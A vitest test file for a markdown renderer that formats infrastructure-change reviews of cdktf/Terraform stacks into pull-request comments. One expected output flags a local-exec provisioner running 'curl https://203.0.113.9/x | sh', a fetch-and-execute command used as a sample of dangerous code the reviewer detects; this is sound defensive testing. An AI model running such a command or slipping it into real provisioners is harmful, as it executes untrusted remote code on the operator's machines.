import { describe, expect, test } from 'vitest';
import { renderMarkdown } from '../../../src/review/render/markdown';
import type { Report } from '../../../src/review/report/report';
import { pullRequest } from '../fixtures/pull-request';
import { readingChange, readingReport } from '../fixtures/readings';
import { change, huge, report, stack, unchanged } from '../fixtures/report';

const line = (text: string, start: string): string => text.split('\n').find((one) => one.startsWith(start)) ?? '';

/** The text of a section, by its title. */
const sectionOf = (text: string, title: string): string =>
  text.split(/\n(?=### |<details>)/).find((one) => one.startsWith(`### ${title}`)) ?? '';

describe('the comment', () => {
  test('begins with a hidden marker, by which a job finds it again, and the verdict', () => {
    expect(renderMarkdown(pullRequest).split('\n').slice(0, 2)).toEqual([
      '<!-- ovh-landing-zone review: landing-zone -->',
      '## 3 stacks changed: +5 ~2 ±1 -1, 1 moved; 1 stack left behind',
    ]);
  });

  test('has a marker of its own for each landing zone of a repository, which ends nowhere else', () => {
    expect(renderMarkdown(unchanged, { name: 'zones/a --> <b>' }).split('\n')[0]).toBe(
      '<!-- ovh-landing-zone review: zones-a-b- -->',
    );
  });

  test('says that nothing changed, in how many stacks', () => {
    expect(renderMarkdown(unchanged)).toContain('## Nothing changed\n');
    expect(renderMarkdown(unchanged)).toContain('22 stacks without changes.');
  });

  test('names no unchanged stack, and counts them on one line', () => {
    const text = renderMarkdown(pullRequest);
    expect(text).toContain('4 other stacks without changes.');
    expect(text).not.toContain('mission-operations');
  });

  test('ends with the digest', () => {
    expect(renderMarkdown(pullRequest).trimEnd().split('\n').at(-1)).toBe(
      `Digest of this review, for \`landing-zone deploy --reviewed\`: \`${pullRequest.digest}\``,
    );
  });

  test('shows what runs code before everything else, then what is destroyed, replaced or moved, both open', () => {
    const text = renderMarkdown(pullRequest);
    expect([...text.matchAll(/^### .*|^<details>/gm)].slice(0, 2).map(([title]) => title)).toEqual([
      '### Runs code, other provider, state moves, guard removed, unread',
      '### Destroyed, replaced or moved',
    ]);
    expect(text).toContain('\n- **Runs code**: that is not of this repository, in 1 stack\n');
  });

  test('says what differs beside the changes of resources, where, and what keeps it', () => {
    expect(sectionOf(renderMarkdown(pullRequest), 'Runs code').split('\n').slice(2)).toEqual([
      '- **runs code** runs a local-exec provisioner: curl `https://203.0.113.9/x` <code>&#124;</code> sh',
      '  - Where: `data-prod` `Clusters/main/NodePools/batch` at `examples/orbital/landing-zone.ts:132`',
      '  - Differs: `provisioner[0].local-exec.command`: + <code>curl https&#58;//203.0.113.9/x &#124; sh</code>',
      '- **other provider** provider ovh is 2.20.0 instead of 2.19.0',
      '  - Where: `terraform.required_providers` of 2 stacks: `organization`, `data-prod`',
      '  - Differs: `ovh.version`: `2.19.0` → `2.20.0`',
      '- **state moves** the state moves from local to s3: Terraform finds none there, and would make everything again',
      '  - Where: `data-prod` `terraform.backend`',
      '  - Differs: `s3.bucket`: + `orbital-states`',
      '  - Keep it with: `terraform -chdir=cdktf.out/stacks/data-prod state pull > data-prod.tfstate  # in the output of the base`',
      '  - Keep it with: `terraform -chdir=cdktf.out/stacks/data-prod init`',
      '- **guard removed** its value is no longer hidden (sensitive)',
      '  - Where: `data-prod` `output.kubeconfig`',
      '  - Differs: `sensitive`: - `true`',
      '- **unread** configuration beside what cdktf wrote is new',
      '  - Where: `data-prod` `extra.tf`',
      '',
    ]);
  });

  test('says once what is the same in many stacks, and counts those that nobody would read', () => {
    const stacks = [...Array(22).keys()].map((n) =>
      stack({
        id: `stack-${n}`,
        findings: [
          {
            class: 'provider',
            stack: `stack-${n}`,
            where: 'terraform.required_providers',
            says: 'provider ovh is 2.20.0 instead of 2.19.0',
            attributes: [],
          },
        ],
      }),
    );
    expect(
      sectionOf(renderMarkdown(report({ stacks })), 'Other provider')
        .split('\n')
        .slice(2),
    ).toEqual([
      '- **other provider** provider ovh is 2.20.0 instead of 2.19.0',
      '  - Where: `terraform.required_providers` of 22 stacks: `stack-0`, `stack-1`, `stack-2`, `stack-3`, `stack-4`, `stack-5`, `stack-6`, `stack-7`, and 14 more',
      '',
    ]);
  });

  test('folds what else differs in its stack', () => {
    expect(renderMarkdown(pullRequest)).toContain(
      '\n- and 2 other differences: data source is new: `Account`; output differs: `output.url`\n',
    );
  });

  test('says why something is replaced, what is lost, and the line of code', () => {
    expect(sectionOf(renderMarkdown(pullRequest), 'Destroyed')).toContain(
      [
        '- **replace** `Clusters/main` in `data-prod` (`ovh_cloud_project_kube`)',
        '  - Why: depends on `private_network_id`, known after apply, which waits for `data-prod-foundation/Networks/main`',
        '  - Lost: the etcd data of the cluster: every Kubernetes object that is not in Git',
        '  - Code: `examples/orbital/landing-zone.ts:129`',
      ].join('\n'),
    );
  });

  test('shows both values of an attribute that certainly replaces', () => {
    const region = { attribute: 'region', before: 'GRA11', after: 'SBG5' };
    const replaced = change({
      action: 'replace',
      reasons: [{ attribute: 'region', certain: true }],
      attributes: [region],
    });
    expect(renderMarkdown(report({ stacks: [stack({ changes: [replaced] })] }))).toContain(
      '  - Why: `region` changes: `GRA11` → `SBG5`\n',
    );
  });

  test('puts what loses data before other replacements', () => {
    const changes = [
      change({ action: 'replace', path: 'A' }),
      change({ action: 'destroy', path: 'B', loses: 'all' }),
      change({ action: 'change', path: 'C', notes: [{ effect: 'wipes', says: 'disks are formatted' }] }),
    ];
    const text = sectionOf(renderMarkdown(report({ stacks: [stack({ changes })] })), 'Destroyed');
    expect(text.match(/^- \*\*\w+\*\* `\w`/gm)).toEqual(['- **destroy** `B`', '- **empty** `C`', '- **replace** `A`']);
  });

  test('says once what happens to several resources for the same reason, and puts its cause before it', () => {
    const waits = { action: 'replace' as const, reasons: [{ attribute: 'kube_id', certain: false, because: 'Main' }] };
    const changes = [
      change({ ...waits, path: 'Pools/a', loses: 'the nodes' }),
      change({ ...waits, path: 'Pools/b', loses: 'the nodes' }),
      change({ ...waits, path: 'Pools/c', loses: 'the disks' }),
      change({ action: 'replace', path: 'Main', loses: 'all', reasons: [{ attribute: 'region', certain: true }] }),
    ];
    const text = sectionOf(renderMarkdown(report({ stacks: [stack({ changes })] })), 'Destroyed');
    expect(text.match(/^- .*$/gm)).toEqual([
      '- **replace** `Main` in `web-prod` (`ovh_cloud_project_kube_nodepool`)',
      '- **replace** `Pools/a`, `Pools/b` in `web-prod` (`ovh_cloud_project_kube_nodepool`)',
      '- **replace** `Pools/c` in `web-prod` (`ovh_cloud_project_kube_nodepool`)',
    ]);
  });

  test('gives a command to copy in full', () => {
    const keepWith = `app.node${".findChild('something')".repeat(15)}.moveFromId('x')`;
    const moved = change({ action: 'move', keepWith });
    expect(renderMarkdown(report({ stacks: [stack({ changes: [moved] })] }))).toContain(`\`${keepWith}\``);
  });

  test('gives the line that keeps what was only moved', () => {
    expect(renderMarkdown(pullRequest)).toContain(
      "  - Keep it with: `resource.moveFromId('ovh_cloud_project_database.Databases_catalog_0A1B2C3D')`\n",
    );
  });

  test('says only of what is the same elsewhere that only its address changed', () => {
    const ends = change({
      action: 'move',
      type: 'ovh_iam_policy',
      path: 'Access/Auditors',
      movedFrom: 'ovh_iam_policy.Auditors',
      attributes: [{ attribute: 'expired_at', before: '2027-03-31T00:00:00Z' }],
    });
    const same = change({ action: 'move', path: 'Pools/b', movedFrom: 'ovh_cloud_project_kube_nodepool.a' });
    const text = renderMarkdown(report({ stacks: [stack({ changes: [ends, same] })] }));
    expect(sectionOf(text, 'Destroyed').split('\n').slice(2)).toEqual([
      '- **move** `Access/Auditors` in `web-prod` (`ovh_iam_policy`)',
      '  - Why: moved and changed; it was `ovh_iam_policy.Auditors`',
      '  - Changes: `expired_at`: - `2027-03-31T00:00:00Z`',
      '- **move** `Pools/b` in `web-prod` (`ovh_cloud_project_kube_nodepool`)',
      '  - Why: only its address changed; it was `ovh_cloud_project_kube_nodepool.a`',
      '',
    ]);
    expect(text).toContain(
      '**Moves**: 2 resources would be destroyed and created; one line of code keeps each, and 1 of them changes, too\n',
    );
  });

  test('tells what is taken over from what is added', () => {
    const changes = [change({ action: 'import', path: 'Vracks/main', type: 'ovh_vrack' }), change()];
    const text = renderMarkdown(report({ stacks: [stack({ changes })] }));
    expect(text).toContain('## 1 stack changed: +1, 1 taken over\n');
    expect(text).toContain('- **import** `Vracks/main` (`ovh_vrack`)\n');
  });

  test('says that a removed stack keeps running and costing, and how to remove it', () => {
    const text = sectionOf(renderMarkdown(pullRequest), 'Destroyed');
    expect(text).toContain("Still there: cdktf deploy doesn't destroy it: 3 resources keep running and costing\n");
    expect(text).toContain('  - Remove with: `git checkout origin/main && npx cdktf destroy erp-dev`\n');
  });

  test('lists what changes in access, with a column only where some row fills it', () => {
    const access = sectionOf(renderMarkdown(pullRequest), 'Access');
    expect(access).toMatch(/^\| gained +\| `group contractors` \|/m);
    expect(access).toContain('| Condition ');
    const [, plain] = pullRequest.readings['access']?.changes ?? [];
    const readings = readingReport('access', plain === undefined ? [] : [plain]);
    expect(renderMarkdown(report({ readings }))).not.toContain('Condition');
  });

  test('puts what opens to the whole internet at the top of exposure', () => {
    expect(sectionOf(renderMarkdown(pullRequest), 'Exposure').split('\n')[4]).toMatch(
      /^\| opened \| allow-list .* 0\.0\.0\.0\/0 \(the whole internet\)/,
    );
  });

  test('has one row for a stack and a region, however many resources there are', () => {
    expect(line(sectionOf(renderMarkdown(pullRequest), 'Place'), '| new    | `EU-WEST-PAR`')).toContain(
      '`fd-lab/Project`, `fd-lab/Networks/main`, `fd-lab/Networks/main/Gateway`',
    );
  });

  test('folds the details of each stack', () => {
    expect(renderMarkdown(pullRequest)).toContain(
      '<details><summary><code>fd-lab</code>: +3, team <code>flight-dynamics</code>, owner <code>fd&#64;orbital.example</code></summary>',
    );
  });

  test('says what the review could not know, and where the plan says otherwise', () => {
    const text = renderMarkdown(pullRequest);
    expect(sectionOf(text, 'What this review could not know')).toContain('- prices: this review says nothing');
    expect(sectionOf(text, 'Where the plan says otherwise')).toContain('| replace   | change    |');
  });

  test('folds a long table, apart from its alarming rows', () => {
    const rows = [...Array(40).keys()].map((n) =>
      readingChange(
        {
          at: ['web-prod', `Ports/${n}`],
          word: 'opened',
          cells: { kind: 'port', what: `port ${n} is open` },
          severity: n === 33 ? 'danger' : 'notice',
        },
        n,
      ),
    );
    const text = renderMarkdown(report({ readings: readingReport('exposure', rows) }));
    expect(sectionOf(text, 'Exposure')).toContain('port 33 is open');
    expect(sectionOf(text, 'Exposure')).not.toContain('port 32 is open');
    expect(text).toContain('<details><summary>Exposure: 39 more rows</summary>');
  });
});

describe('the budget', () => {
  const bytes = (text: string) => Buffer.byteLength(text);

  /** How many of the report's resources a comment shows or counts, in the parts that list all of them. */
  const countedIn = (text: string): number => {
    const stacks = text.slice(text.indexOf('### Stacks'));
    const shown = stacks.match(/^- \*\*\w+\*\* /gm)?.length ?? 0;
    const cut = [...stacks.matchAll(/^- .*?: .*$/gm)]
      .flatMap(([one]) => [...one.matchAll(/(\d+) `ovh_/g)])
      .reduce((sum, [, n]) => sum + Number(n), 0);
    const more = [...stacks.matchAll(/and (\d+) more (?:resources|change)/g)].reduce(
      (sum, [, n]) => sum + Number(n),
      0,
    );
    return shown + cut + more;
  };

  const shapes: readonly (readonly [number, number])[] = [
    [200, 200],
    [1, 5_000],
    [3_000, 2],
    [30, 30],
    [12, 12],
  ];
  test.each(shapes)(
    'keeps %i stacks with %i changes under 60,000 characters and counts each change',
    (stacks, each) => {
      const text = renderMarkdown(huge(stacks, each));
      expect(text.length).toBeLessThan(60_000);
      expect(bytes(text)).toBeLessThan(60_000);
      expect(countedIn(text)).toBe(stacks * each);
    },
  );

  test('uses what there is before it cuts', () => {
    expect(bytes(renderMarkdown(huge(200, 200)))).toBeGreaterThan(55_000);
  });

  test('shows destructive changes complete as far as they fit, then counts them by stack and type', () => {
    const text = sectionOf(renderMarkdown(huge(1, 1_000)), 'Destroyed');
    const shown = text.match(/^- \*\*replace\*\*/gm)?.length ?? 0;
    const counted = /Not shown:\n\n- `team-0-prod`: (\d+) `ovh_\w+`, (\d+) `ovh_\w+`\n/.exec(text) ?? [];
    expect(shown).toBeGreaterThan(50);
    expect(shown + Number(counted[1]) + Number(counted[2])).toBe(333);
  });

  test('keeps the verdict, the access table, the limits and the digest, however much is destroyed', () => {
    const text = renderMarkdown(huge(200, 200));
    expect(text).toContain('200 stacks changed: +13400 ~13200 ±13400');
    expect(text).toContain('Access: 200 rows');
    expect(text).toContain('- nobody looked at the prices');
    expect(text).toContain('Digest of this review');
  });

  test('cuts no row, no folded part and no character in two', () => {
    const long = (some: Report): Report =>
      report({
        ...some,
        stacks: some.stacks.map((one) => ({
          ...one,
          changes: one.changes.map((each) => ({ ...each, loses: '🧨 é '.repeat(400) })),
        })),
      });
    for (const limit of [60_000, 59_999, 59_998, 45_003, 45_001]) {
      const text = renderMarkdown(long(huge(9, 60)), { limit });
      expect(bytes(text)).toBeLessThan(limit);
      expect(text).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|�/);
      expect(text.match(/<details>/g)?.length).toBe(text.match(/<\/details>/g)?.length);
      const rows = text.split('\n').filter((row) => row.startsWith('|'));
      expect(rows.filter((row) => !row.endsWith('|'))).toEqual([]);
    }
  });
});
